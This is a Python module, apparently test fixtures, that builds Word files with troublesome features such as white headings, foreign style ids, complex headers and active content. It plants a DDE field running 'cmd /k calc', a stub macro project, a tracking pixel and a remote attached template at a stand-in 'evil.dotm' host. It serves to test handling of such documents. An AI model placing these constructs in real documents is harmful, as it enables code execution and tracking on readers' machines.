"""Word files as departments have them, with what makes trouble in each."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from docx import Document
from docx.document import Document as DocumentObject
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Cm, Inches, RGBColor

Build = Callable[[DocumentObject], None]
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MS = "http://schemas.microsoft.com/office/2006/relationships"


def picture() -> bytes:
    """Return a small PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    rows = b"".join(b"\0" + b"\x26\x37\x4a" * 8 for _ in range(8))
    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def foreign(build: Build, edit: Callable[[dict[str, bytes]], None] | None = None) -> bytes:
    """Return a Word file that `build` fills and `edit` then changes part by part."""
    document = Document()
    document.add_paragraph("Text of the department that has to go.")
    build(document)
    out = BytesIO()
    document.save(out)
    if edit is None:
        return out.getvalue()
    with ZipFile(out) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    edit(parts)
    return zipped(parts)


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """Return parts as a zip."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def replace_in(parts: dict[str, bytes], name: str, old: str, new: str) -> None:
    """Replace a text in a part, where it has to stand."""
    text = parts[name].decode()
    assert old in text, (name, old)
    parts[name] = text.replace(old, new).encode()


def relate(parts: dict[str, bytes], name: str, relation: str) -> None:
    """Add a relationship to a part with relationships."""
    if name not in parts:
        uri = "http://schemas.openxmlformats.org/package/2006/relationships"
        parts[name] = f'<Relationships xmlns="{uri}"></Relationships>'.encode()
    replace_in(parts, name, "</Relationships>", f"{relation}</Relationships>")


def white_headings(document: DocumentObject) -> None:
    """Headings and title in white, made for a banner; numbered headings; a title in a frame."""
    for name in ("Title", "Heading 1", "Heading 2", "Caption", "Body Text"):
        document.styles[name].font.color.rgb = RGBColor(0xFF, 0xFF, 0xFF)
    title = document.styles["Title"].element.get_or_add_pPr()
    title.insert(0, parse_xml(f'<w:framePr {nsdecls("w")} w:w="4000" w:h="900" w:x="1" w:y="1"/>'))
    heading = document.styles["Heading 1"].element.get_or_add_pPr()
    numbering = f'<w:numPr {nsdecls("w")}><w:numId w:val="1"/></w:numPr>'
    heading.insert(0, parse_xml(numbering))


def own_names(document: DocumentObject) -> None:
    """Styles of the department's own under the names ours have, and a bare Table Grid."""
    for name in ("Table Heading", "Answer Line", "Section End"):
        style = document.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH)
        style.font.color.rgb = RGBColor(0xFF, 0xFF, 0xFF)
    document.styles.add_style("Table Text", WD_STYLE_TYPE.CHARACTER)


def french_ids(parts: dict[str, bytes]) -> None:
    """Give styles the ids a Word in French writes."""
    text = parts["word/styles.xml"].decode()
    for old, new in (("Heading1", "Titre1"), ("BodyText", "Corpsdetexte"), ("Title", "Titre")):
        text = text.replace(f'"{old}"', f'"{new}"')
    parts["word/styles.xml"] = text.encode()


def only_normal(parts: dict[str, bytes]) -> None:
    """Leave no style but Normal, and no lists."""
    parts["word/styles.xml"] = (
        f"<w:styles {nsdecls('w')}>"
        '<w:style w:type="paragraph" w:default="1" w:styleId="a"><w:name w:val="Normal"/></w:style>'
        "</w:styles>"
    ).encode()
    replace_in(parts, "word/document.xml", "<w:body>", "<w:body>")
    relations = parts["word/_rels/document.xml.rels"].decode()
    start = relations.index("<Relationship ", relations.index("numbering.xml") - 200)
    end = relations.index("/>", relations.index("numbering.xml")) + 2
    parts["word/_rels/document.xml.rels"] = (relations[:start] + relations[end:]).encode()


def header_of_the_department(document: DocumentObject) -> None:
    """A header with a floating logo, a bound title, a text box, tracked changes and fields."""
    section = document.sections[0]
    section.different_first_page_header_footer = True
    run = section.header.paragraphs[0].add_run()
    run.add_picture(BytesIO(picture()), width=Inches(1))
    inline = run._r.find(qn("w:drawing"))[0]
    inline.find(qn("wp:docPr")).attrib.pop("descr", None)
    section.first_page_header.paragraphs[0].add_run("Department of Examples")
    paragraph = section.header.add_paragraph()._p
    bound = (
        "<w:sdt><w:sdtPr><w:dataBinding"
        ' w:xpath="/ns1:coreProperties[1]/ns0:title[1]" w:storeItemID="{6C3C8BC8}"/></w:sdtPr>'
        "<w:sdtContent><w:r><w:t>Last year's title</w:t></w:r></w:sdtContent></w:sdt>"
    )
    tracked = '<w:del w:id="7" w:author="a"><w:r><w:delText>gone</w:delText></w:r></w:del>'
    dde = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        "<w:r><w:instrText>AUTO cmd /k calc </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    for child in parse_xml(f"<w:p {nsdecls('w')}>{bound}{tracked}{dde}</w:p>"):
        paragraph.append(child)
    box = (
        f'<w:r {nsdecls("w")}><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="b">'
        "<v:textbox><w:txbxContent><w:p><w:r><w:t>Protected A</w:t></w:r></w:p>"
        "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )
    paragraph.append(parse_xml(box))


def narrow_columns(document: DocumentObject) -> None:
    """Two columns on a page with wide margins, a landscape section first, a logo in the text."""
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21), Cm(29.7)
    section.left_margin = section.right_margin = Cm(6)
    columns = f'<w:cols {nsdecls("w")} w:num="2" w:space="720"/>'
    section._sectPr.append(parse_xml(columns))
    document.paragraphs[0].add_run().add_picture(BytesIO(picture()), width=Inches(3))


def active(parts: dict[str, bytes]) -> None:
    """Macros, an attached template, an external picture, an inserted file."""
    replace_in(
        parts,
        "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    )
    replace_in(
        parts,
        "[Content_Types].xml",
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    parts["word/chunk.html"] = b"<p>inserted</p>"
    relations = "word/_rels/document.xml.rels"
    for relation in (
        f'<Relationship Id="m1" Type="{_MS}/vbaProject" Target="vbaProject.bin"/>',
        f'<Relationship Id="m2" Type="{_R}/aFChunk" Target="chunk.html"/>',
        f'<Relationship Id="m3" Type="{_R}/image" TargetMode="External"'
        ' Target="http://tracker.example/pixel.png"/>',
    ):
        relate(parts, relations, relation)
    relate(
        parts,
        "word/_rels/settings.xml.rels",
        f'<Relationship Id="t1" Type="{_R}/attachedTemplate" TargetMode="External"'
        ' Target="http://elsewhere.example/evil.dotm"/>',
    )
    text = parts["word/settings.xml"].decode()
    start = text.index(">", text.index("<w:settings")) + 1
    attached = (
        f'<w:attachedTemplate xmlns:r="{_R}" r:id="t1"/>'
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
    )
    parts["word/settings.xml"] = (text[:start] + attached + text[start:]).encode()
    replace_in(
        parts, "word/document.xml", "<w:sectPr", f'<w:altChunk xmlns:r="{_R}" r:id="m2"/><w:sectPr'
    )
